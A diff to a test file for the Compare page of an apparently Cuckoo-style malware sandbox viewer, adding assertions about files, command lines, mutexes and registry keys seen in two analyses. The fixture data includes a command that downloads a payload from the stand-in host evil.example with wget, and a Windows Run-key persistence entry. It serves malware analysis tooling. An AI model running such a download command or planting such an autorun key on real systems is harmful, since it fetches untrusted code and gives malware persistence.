@@ -148,6 +148,13 @@ describe('the Compare page', () => {
     expect(within(dropped).getAllByText('/tmp/payload')).toHaveLength(2) // the shared file, its path on each side
     expect(within(section('Dropped files')).getAllByTestId('tally')[0]!.textContent).toBe('0 only in A · 1 only in B · 1 in both')
     expect(markOf(table('ELF libraries', 'ELF libraries'), 'libselinux.so.1')).toBe('b')
+    // What the runs touched: files by path and by name, the command lines they ran; a Linux run has no mutexes.
+    expect(markOf(table('Files', 'file paths'), '/tmp/payload')).toBe('both')
+    expect(markOf(table('Files', 'file paths'), '/tmp/.cache/notes.txt')).toBe('b')
+    expect(markOf(table('File names', 'file names'), 'notes.txt')).toBe('b')
+    expect(markOf(table('Command lines run', 'command lines run'), 'wget -q http://evil.example/payload2 -O /tmp/payload')).toBe('b')
+    expect(within(section('Mutexes')).getByText('No mutexes in either analysis.')).toBeTruthy()
+    expect(within(section('Registry keys')).getByText('No registry keys in either analysis.')).toBeTruthy()
     expect(within(section('Static analysis')).getAllByTestId('tally')[0]!.textContent).toMatch(/differ/)
 
     // Only differences: what both share goes; the URL says so, for a bookmark.
@@ -170,6 +177,10 @@ describe('the Compare page', () => {
     expect(markOf(table('By name', 'process names'), 'cmd.exe')).toBe('b')
     expect(markOf(table('Signatures', 'signatures'), 'persistence_autorun')).toBe('b')
     expect(markOf(table('PE imports', 'PE imports'), 'advapi32.dll!RegSetValueExA')).toBe('b')
+    expect(markOf(table('Files', 'file paths'), 'C:\\Users\\cuckoo\\AppData\\Local\\Temp\\upd.tmp')).toBe('b')
+    expect(markOf(table('Mutexes', 'mutexes'), 'Global\\updater-singleton')).toBe('b')
+    expect(markOf(table('Registry keys', 'registry keys'), 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater')).toBe('b')
+    expect(within(section('Registry keys')).getAllByTestId('tally')[0]!.textContent).toBe('0 only in A · 1 only in B · 0 in both')
     expect(markOf(table('ELF libraries', 'ELF libraries'), 'libc.so.6')).toBe('a')
     expect(within(section('Static analysis')).getByRole('table', { name: 'static facts' }).textContent).toContain('PE32 executable (GUI) Intel 80386')
   })
